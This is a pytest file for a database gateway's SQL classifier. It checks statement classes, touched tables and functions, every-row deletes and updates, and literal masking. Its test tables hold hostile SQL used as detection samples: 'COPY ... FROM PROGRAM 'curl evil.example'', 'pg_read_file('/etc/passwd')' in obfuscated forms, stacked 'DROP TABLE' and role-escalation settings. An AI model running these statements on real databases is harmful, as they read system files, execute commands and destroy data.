"""What is told of a statement from its text: a table of texts, hostile ones among them."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from access.gateway_rules import StatementClass as C
from gateway.statements import Setting, Statement, understand


def told(text: str) -> Statement:
    return understand(text, "postgres").statement


def shape(text: str) -> str:
    return understand(text, "postgres").shape


def fingerprint(text: str) -> str:
    return understand(text, "postgres").fingerprint


CLASSES = [
    ("SELECT 1", {C.READ}),
    ("TABLE item", {C.READ}),
    ("VALUES (1)", {C.READ}),
    ("-- DELETE FROM item\nSELECT 1", {C.READ}),
    ("/* SELECT 1 */ DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("/* a /* nested */ comment */ UPDATE item SET price = 1 WHERE id = 2", {C.WRITE}),
    ("SELECT 'DELETE FROM item'", {C.READ}),
    ("SELECT $$; DROP TABLE item$$", {C.READ}),
    ('SELECT 1 AS "; DROP TABLE item"', {C.READ}),
    ("SELECT 1; DROP TABLE item", {C.READ, C.DDL}),
    ("WITH gone AS (DELETE FROM item WHERE id = 1 RETURNING *) SELECT * FROM gone", {C.READ, C.WRITE}),
    ("SELECT * INTO copy FROM item", {C.READ, C.DDL}),
    ("SELECT * FROM item FOR UPDATE", {C.READ, C.WRITE}),
    ("INSERT INTO item VALUES (1) ON CONFLICT DO NOTHING", {C.WRITE}),
    ("MERGE INTO item USING new ON item.id = new.id WHEN MATCHED THEN DELETE", {C.WRITE}),
    ("TRUNCATE item", {C.WRITE}),
    ("EXPLAIN DELETE FROM item WHERE id = 1", {C.READ}),
    ("EXPLAIN ANALYZE DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("EXPLAIN (ANALYZE, BUFFERS) DELETE FROM item WHERE id = 1", {C.WRITE}),
    ("EXPLAIN VERBOSE SELECT 1", {C.READ}),
    ("COPY item FROM STDIN", {C.WRITE}),
    ("COPY item (id, name) TO STDOUT WITH (FORMAT csv)", {C.READ}),
    ("COPY (SELECT * FROM item) TO STDOUT", {C.READ}),
    ("COPY (DELETE FROM item WHERE id = 1 RETURNING *) TO STDOUT", {C.WRITE}),
    ("COPY item TO '/tmp/item'", {C.ADMIN}),
    ("COPY item FROM PROGRAM 'curl evil.example'", {C.ADMIN}),
    ("CREATE TABLE item (id int)", {C.DDL}),
    ("CREATE TABLE copy AS SELECT * FROM item", {C.DDL}),
    ("ALTER TABLE item ADD COLUMN price numeric", {C.DDL}),
    ("CREATE ROLE mallory", {C.ADMIN}),
    ("ALTER SYSTEM SET fsync = off", {C.ADMIN}),
    ("GRANT SELECT ON item TO PUBLIC", {C.ADMIN}),
    ("VACUUM item", {C.ADMIN}),
    ("BEGIN", {C.TRANSACTION}),
    ("PREPARE TRANSACTION 'x'", {C.TRANSACTION}),
    ("SET search_path = shop", {C.SESSION}),
    ("SHOW search_path", {C.SESSION}),
    ("LISTEN news", {C.SESSION}),
    ("DECLARE c CURSOR FOR SELECT * FROM item", {C.SESSION, C.READ}),
    ("PREPARE p (int) AS DELETE FROM item WHERE id = $1", {C.SESSION, C.WRITE}),
    ("EXECUTE p (1)", {C.SESSION}),
    ("DO $$ BEGIN DELETE FROM item; END $$", {C.CALL}),
    ("CALL tidy_up()", {C.CALL}),
    ("FROBNICATE item", {C.UNKNOWN}),
    ("SELECT FROM WHERE", {C.UNKNOWN}),
]


@pytest.mark.parametrize(("text", "classes"), CLASSES, ids=[text for text, _ in CLASSES])
def test_its_classes(text: str, classes: set[C]) -> None:
    assert told(text).classes == classes


@pytest.mark.parametrize(
    ("text", "every_row"),
    [
        ("DELETE FROM item", True),
        ("DELETE FROM item WHERE true", True),
        ("DELETE FROM item WHERE 1 = 1", True),
        ("UPDATE item SET price = 0", True),
        ("WITH x AS (UPDATE item SET price = 0 RETURNING *) SELECT * FROM x", True),
        ("TRUNCATE item", True),
        ("EXPLAIN ANALYZE DELETE FROM item", True),
        ("EXPLAIN DELETE FROM item", False),
        ("DELETE FROM item WHERE id = 1", False),
        ("UPDATE item SET price = 0 WHERE id IN (SELECT id FROM old)", False),
        ("MERGE INTO item USING new ON item.id = new.id WHEN MATCHED THEN UPDATE SET price = 1", False),
        ("SELECT * FROM item", False),
    ],
)
def test_whether_it_changes_every_row(text: str, every_row: bool) -> None:
    assert told(text).changes_every_row is every_row


@pytest.mark.parametrize(
    ("text", "tables"),
    [
        ("SELECT * FROM shop.item JOIN Person p ON p.id = item.id", {"shop.item", "person"}),
        ('SELECT * FROM "Odd Name"', {"Odd Name"}),
        ("WITH recent AS (SELECT * FROM item) SELECT * FROM recent", {"item"}),
        ("INSERT INTO item SELECT * FROM other", {"item", "other"}),
        ("COPY shop.item TO STDOUT", {"shop.item"}),
        ("TRUNCATE shop.item, other", {"shop.item", "other"}),
        ("SELECT * FROM generate_series(1, 3)", set()),
    ],
)
def test_its_tables(text: str, tables: set[str]) -> None:
    assert told(text).tables == tables


@pytest.mark.parametrize(
    ("text", "function"),
    [
        ("SELECT pg_terminate_backend(1)", "pg_terminate_backend"),
        ("SELECT pg_catalog.pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT \"pg_read_file\"('/etc/passwd')", "pg_read_file"),
        ("SELECT PG_READ_FILE /* here */ ('/etc/passwd')", "pg_read_file"),
        ("SELECT * FROM dblink('dbname=x', 'DELETE FROM item') AS t(a int)", "dblink"),
        ("EXPLAIN SELECT lo_export(1, '/tmp/x')", "lo_export"),
        ("CALL shop.tidy(1)", "tidy"),
    ],
)
def test_the_functions_it_calls(text: str, function: str) -> None:
    assert function in told(text).functions


@pytest.mark.parametrize(
    "text",
    [
        *("SET default_transaction_read_only = off", "SET SESSION default_transaction_read_only TO 'off'"),
        *(
            "BEGIN READ WRITE",
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE, READ WRITE",
            "SET TRANSACTION READ WRITE",
        ),
        *("SET SESSION CHARACTERISTICS AS TRANSACTION READ WRITE", "set LOCAL transaction_read_only = 0"),
    ],
)
def test_whatever_would_make_a_session_write(text: str) -> None:
    statement = told(text)
    names = {setting.name for setting in statement.settings}
    assert statement.asks_to_write or names & {"default_transaction_read_only", "transaction_read_only"}


@pytest.mark.parametrize(
    "text", ["SET ROLE postgres", "SET SESSION AUTHORIZATION postgres", "SET LOCAL ROLE 'postgres'"]
)
def test_whatever_would_make_it_somebody_else(text: str) -> None:
    assert {setting.name for setting in told(text).settings} & {"role", "session_authorization"}


@pytest.mark.parametrize(
    "secret",
    [
        "'4111 1111'",
        "E'4111\\'1111'",
        "$$4111$$",
        "$tag$4111$tag$",
        "U&'4111'",
        "B'4111'",
        "X'4111'",
        "4111",
        "41.11",
        "4111e3",
    ],
)
def test_no_literal_is_left_in_the_shape(secret: str) -> None:
    for text in (f"SELECT * FROM card WHERE number = {secret}", f"SELECT {secret}", f"SELECT ({secret},{secret})"):
        assert told(text).is_parsed
        assert "41" not in shape(text)


@pytest.mark.parametrize(
    "other",
    [
        "select * from item where id in (1) and name = 'b'",
        "SELECT  *\nFROM item -- why\nWHERE id IN (1, 2, 3, 4) AND name = 'it''s'",
        "SELECT * FROM item WHERE id IN (7,8) AND name = $$x$$;",
    ],
)
def test_texts_that_differ_in_nothing_that_matters_have_one_fingerprint(other: str) -> None:
    first = "SELECT * FROM item WHERE id IN (1, 2) AND name = 'a'"
    assert fingerprint(first) == fingerprint(other)


def test_texts_that_differ_in_a_name_have_two() -> None:
    assert fingerprint("SELECT a FROM item") != fingerprint("SELECT b FROM item")


@pytest.mark.parametrize(
    "text", ["SELECT 'open", 'SELECT "open', "SELECT $$open", "/* open", "/* /* open */", "SELECT 1 /*/"]
)
def test_a_text_that_is_none_shows_nothing_of_itself(text: str) -> None:
    understood = understand(text, "postgres")
    assert (understood.shape, understood.statement.classes) == ("", {C.UNKNOWN})
    assert understood.statement.fault is not None
    assert understood.statement.fault.message.startswith("unterminated")


def test_a_text_that_is_deep_is_understood_all_the_same() -> None:
    assert told("SELECT " + "(" * 900 + "1" + ")" * 900).classes == {C.READ}
    assert told("SELECT " + " || ".join(["'a'"] * 400)).classes == {C.READ}


@given(st.text(max_size=200))
def test_any_text_is_told(text: str) -> None:
    statement = told(text.replace("\0", ""))
    assert statement.classes or statement.count == 0


@given(st.text(alphabet=st.characters(exclude_characters="'\x00", exclude_categories=["Cs"]), max_size=50))
def test_no_string_however_odd_is_left_in_the_shape(inside: str) -> None:
    marked = f"zq{inside}qz"
    assert "zq" not in shape(f"SELECT * FROM t WHERE a = '{marked}' AND b = 1")


@pytest.mark.parametrize(
    "text",
    [
        "COPY t FROM STDIN WITH (DELIMITER 'zq')",
        "COMMENT ON TABLE t IS 'zq'",
        "DO $$zq$$",
        "CREATE ROLE x PASSWORD 'zq'",
        "NOTIFY a, 'zq'",
        "ALTER TYPE t ADD VALUE 'zq'",
        "PREPARE TRANSACTION 'zq'",
        "PREPARE x AS SELECT 'zq'",
        "EXECUTE x('zq')",
        "CREATE TABLE t (a text DEFAULT 'zq')",
        "CREATE SERVER s FOREIGN DATA WRAPPER f OPTIONS (password 'zq')",
        "SELECT 'a'\n  'zq'",
        "SELECT E'\\'zq'",
        "SELECT U&'z!0071zq' UESCAPE '!'",
        "SELECT 1 /* zq /* zq */ zq */ -- zq",
        "SET application_name = 'zq'",
        "SELECT set_config('app.tenant', 'zq', true)",
    ],
)
def test_no_literal_of_any_statement_is_left_in_the_shape(text: str) -> None:
    assert told(text).is_parsed
    assert shape(text)
    assert "zq" not in shape(text)


def test_what_changes_the_meaning_of_texts_stands_in_the_shape() -> None:
    assert shape("SET search_path TO 'shop', public") == "SET search_path TO 'shop', public"
    assert shape("SET client_encoding = 'LATIN1'") == "SET client_encoding = 'LATIN1'"


@pytest.mark.parametrize(
    ("text", "tables"),
    [
        ("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers", {"customers"}),
        ("SELECT * FROM (WITH customers AS (SELECT 1) SELECT 1) x, customers", {"customers"}),
        ("WITH a AS (SELECT * FROM customers), customers AS (SELECT 1) SELECT * FROM a", {"customers"}),
        ("COPY (WITH customers AS (SELECT * FROM customers) SELECT * FROM customers) TO STDOUT", {"customers"}),
        ('WITH "CUSTOMERS" AS (SELECT 1) SELECT * FROM customers', {"customers"}),
        ("WITH RECURSIVE customers AS (SELECT 1 UNION SELECT * FROM customers) SELECT * FROM customers", set()),
        ("WITH a AS (SELECT 1), b AS (SELECT * FROM a) SELECT * FROM b", set()),
        ("WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t", {"t"}),
        ("WITH t AS (SELECT 1) SELECT * FROM shop.t", {"shop.t"}),
        ("SELECT 1 UNION (WITH t AS (SELECT 1) SELECT * FROM t) UNION SELECT * FROM t", {"t"}),
        (
            "SELECT * FROM pg_type, pg_catalog.pg_class, pg_mine",
            {"pg_catalog.pg_type", "pg_catalog.pg_class", "pg_mine"},
        ),
        ("DROP TABLE shop.item, other", {"shop.item", "other"}),
        ("ALTER TABLE shop.item ADD COLUMN a int REFERENCES other (id)", {"shop.item", "other"}),
        ("SELECT * FROM item FOR UPDATE OF item", {"item"}),
        ("MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE", {"a", "b"}),
        ("SELECT j.id FROM a JOIN b USING (id) AS j", {"a", "b"}),
    ],
)
def test_a_name_of_with_is_no_table_where_it_can_be_seen(text: str, tables: set[str]) -> None:
    assert told(text).tables == tables


@pytest.mark.parametrize(
    ("condition", "every_row"),
    [
        ("now() > '2000-01-01'", True),
        ("1 IN (SELECT id FROM orders)", True),
        ("current_timestamp IS NOT NULL", True),
        ("EXISTS (SELECT 1 FROM customers c WHERE c.id = 1)", True),
        ("id = id", True),
        ("true OR id = 1", True),
        ("NOT false", True),
        ("id = 1 OR $1::bool", True),
        ("orders.id = orders.id", True),
        ("id = id AND item = item", True),
        ("NOT id <> id", True),
        ("id BETWEEN id AND id", True),
        ("orders IS NOT NULL", True),
        ("(SELECT true FROM orders LIMIT 1)", True),
        ("lower(item) = lower(item)", True),
        ("(id, item) = (id, item)", True),
        ("id + 1 >= id + 1", True),
        ("item LIKE lower(item)", False),
        ("id = item", False),
        ("id = id + 1", False),
        ("id IS NOT NULL", False),
        ("id = old.id", False),
        ("id = 1 AND true", False),
        ("NOT id = 1", False),
        ("CURRENT OF c", False),
        ("id = $1", False),
        ("orders.id = 1", False),
        ("EXISTS (SELECT 1 FROM customers c WHERE c.id = orders.customer)", False),
        ("id IN (SELECT id FROM old)", False),
        ("(id, item) = (1, 'a')", False),
        ("lower(item) = 'a'", False),
        ("tags && ARRAY['a']", False),
    ],
)
def test_whether_a_condition_chooses_rows(condition: str, every_row: bool) -> None:
    assert told(f"DELETE FROM orders WHERE {condition}").changes_every_row is every_row
    assert told(f"UPDATE orders SET item = '' WHERE {condition}").changes_every_row is every_row


@pytest.mark.parametrize(
    ("condition", "every_row"),
    [
        ("ON true WHEN MATCHED THEN DELETE", True),
        ("ON s.id = 1 WHEN MATCHED THEN UPDATE SET item = ''", True),
        ("ON o.id = s.id WHEN MATCHED THEN DELETE", False),
        ("ON true WHEN MATCHED AND o.id = 1 THEN DELETE", False),
        ("ON true WHEN MATCHED AND o.id = 1 THEN DELETE WHEN MATCHED THEN UPDATE SET item = ''", True),
        ("ON false WHEN NOT MATCHED THEN INSERT VALUES (1)", False),
    ],
)
def test_whether_a_merge_chooses_rows(condition: str, every_row: bool) -> None:
    assert told(f"MERGE INTO orders o USING source s {condition}").changes_every_row is every_row


def test_a_condition_on_another_table_chooses_no_rows() -> None:
    assert told("DELETE FROM orders USING customers WHERE customers.id = 1").changes_every_row
    assert told("UPDATE orders o SET item = '' FROM customers c WHERE c.id = 1").changes_every_row
    assert not told("UPDATE orders o SET item = '' FROM customers c WHERE c.id = o.customer").changes_every_row


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("SET search_path = a, 'b'", {Setting("search_path", "a, b")}),
        ("SET NAMES 'LATIN1'", {Setting("client_encoding", "LATIN1")}),
        ("SET TIME ZONE 'UTC'", {Setting("timezone", "UTC")}),
        ("SET LOCAL ROLE 'boss'", {Setting("role", "boss")}),
        ("SET ROLE NONE", {Setting("role", "none")}),
        ("SET SESSION AUTHORIZATION DEFAULT", set()),
        ("RESET ALL", set()),
        ("SET x.y TO DEFAULT", set()),
        ("SELECT set_config('jit', 'off', false)", {Setting("jit", "off")}),
        ("SELECT pg_catalog.set_config('Search_Path', '', false)", {Setting("search_path", "")}),
        ("SELECT set_config($1, $2, false)", {Setting("*", None, is_known=False)}),
        ("SELECT set_config('jit', $1, false)", {Setting("jit", None, is_known=False)}),
        ("SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'jit'", {Setting("jit", "x")}),
        ("SELECT set_config(name, 'x', false) FROM pg_settings", {Setting("*", "x")}),
        ('SET "role" = boss', {Setting("role", "boss")}),
    ],
)
def test_what_it_sets(text: str, found: set[Setting]) -> None:
    assert told(text).settings == found


@pytest.mark.parametrize(
    "text", ["EXPLAIN (ANALYZE 'off') DELETE FROM t WHERE a = 1", "EXPLAIN (ANALYZE, ANALYZE false) SELECT 1"]
)
def test_the_last_word_of_explain_counts(text: str) -> None:
    assert told(text).classes == {C.READ}


@pytest.mark.parametrize(
    "text", ["EXPLAIN (ANALYZE 'on') DELETE FROM t WHERE a = 1", 'EXPLAIN ("analyze") DELETE FROM t WHERE a = 1']
)
def test_explain_runs_what_it_analyses_however_that_is_written(text: str) -> None:
    assert told(text).classes == {C.WRITE}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT ip <<= '10.0.0.0/8', a >>= b, a ~= b, a ~>=~ b, a ## b, @ -5, a %> b, a <% b, a <<-> b, a <#> b",
        "SELECT substring('abc' SIMILAR 'a#\"b#\"c' ESCAPE '#'), xmlserialize(CONTENT x AS text)",
        "INSERT INTO t (id, n) OVERRIDING SYSTEM VALUE VALUES (1, 'x')",
        "INSERT INTO t (id, n) OVERRIDING USER VALUE SELECT 1, 'x'",
        "SELECT any_value(x), 'a'::regclass[], point '1,2', x::bit(3), json_object('{a,b}') FROM t",
        "SELECT * FROM t WHERE a = ANY($1::oid[])",
        "SELECT generate_series('2020-01-01'::date, now(), '1 day')",
        "WITH RECURSIVE a AS (SELECT 1 AS id UNION ALL SELECT id FROM a)"
        " SEARCH DEPTH FIRST BY id SET o CYCLE id SET c USING p SELECT * FROM a",
        "WITH t AS (VALUES (1)) TABLE t",
        "UPDATE t SET a[1] = 2 WHERE id = 1",
        "SELECT * FROM json_table('[]', '$[*]' COLUMNS (id int PATH '$.id')) AS lock",
        "MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN UPDATE SET x = 1 RETURNING a.id",
        "SELECT xmlparse(CONTENT '<a/>')",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; SELECT 2; END",
        "CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO u VALUES (1); DELETE FROM v)",
        "SELECT * FROM t WHERE id = $1 AND name LIKE 'B%'",
        "SELECT " + " OR ".join(f"(a = {number} AND b = {number})" for number in range(2_500)),
        "SELECT * FROM t WHERE id IN (" + ", ".join(f"-{number}" for number in range(30_000)) + ")",
    ],
    ids=lambda text: text[:40],
)
def test_what_the_server_takes_is_understood(text: str) -> None:
    assert told(text).is_parsed


def test_what_a_routine_or_a_rule_would_run_later_is_not_what_the_statement_does() -> None:
    statement = told("CREATE FUNCTION f() RETURNS void LANGUAGE sql BEGIN ATOMIC DELETE FROM t; END")
    assert (statement.classes, statement.tables, statement.changes_every_row) == ({C.DDL}, {"t"}, False)
    assert told("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM v").classes == {C.DDL}


@pytest.mark.parametrize("dialect", ["mysql", "tsql"])
def test_other_engines_are_read_by_their_own_words(dialect: str) -> None:
    understood = understand("DELETE FROM item", dialect)
    assert understood.statement.classes == {C.WRITE}
    assert understood.statement.changes_every_row
    assert understand("SELECT 'open", dialect).statement.classes == {C.UNKNOWN}


@pytest.mark.parametrize(
    "text",
    [
        "SELECT 'te' -- zq\n'a' FROM orders",
        "SELECT 'zq -- x' -- one 'zq\n -- two\n 'a -- zq' FROM orders",
        "SELECT E'a\\'--zq' -- b\n '\\'zq', $q$--'zq$q$ FROM orders",
        "SELECT U&'\\0061' -- zq\r '!0061zq' UESCAPE '!' FROM orders",
        "SELECT '-- zq\n' -- x\n 'zq' /* '-- */ , orders AS \"--'\" FROM orders",
    ],
)
def test_a_string_that_goes_on_behind_a_comment_is_one_string(text: str) -> None:
    statement = told(text)
    assert statement.fault is None
    assert (statement.classes, statement.tables) == (frozenset({C.READ}), frozenset({"orders"}))
    assert "zq" not in shape(text)


def test_where_a_text_stumbles_is_told_in_its_own_characters() -> None:
    fault = told("SELECT 'a' -- zq\n 'b' FRM x y").fault
    assert fault is not None
    assert (fault.message, fault.position) == ('syntax error at or near "x"', 27)


@pytest.mark.parametrize("comment", [" /* c */ ", " -- it's c\n", "/* a /* ' */ */ -- b\n"])
@pytest.mark.parametrize(
    "text",
    [
        "SELECT 1 NOT%IN (2)",
        "SELECT a NOT%LIKE 'b' FROM t ORDER BY 1 NULLS%FIRST",
        "SELECT '1'::timestamp WITH%TIME%ZONE, '1'::time WITHOUT%TIME%ZONE",
        "SELECT * FROM f() WITH%ORDINALITY",
        "SELECT U&'te!0061'%UESCAPE%'!', U&\"d!0061t\"%UESCAPE%'!'",
        "SELECT json_object('a': 1 FORMAT%JSON)",
    ],
)
def test_a_comment_between_two_words_that_belong_together_is_a_space(text: str, comment: str) -> None:
    statement = told(text.replace("%", comment))
    assert statement.fault is None
    assert statement.classes == {C.READ}
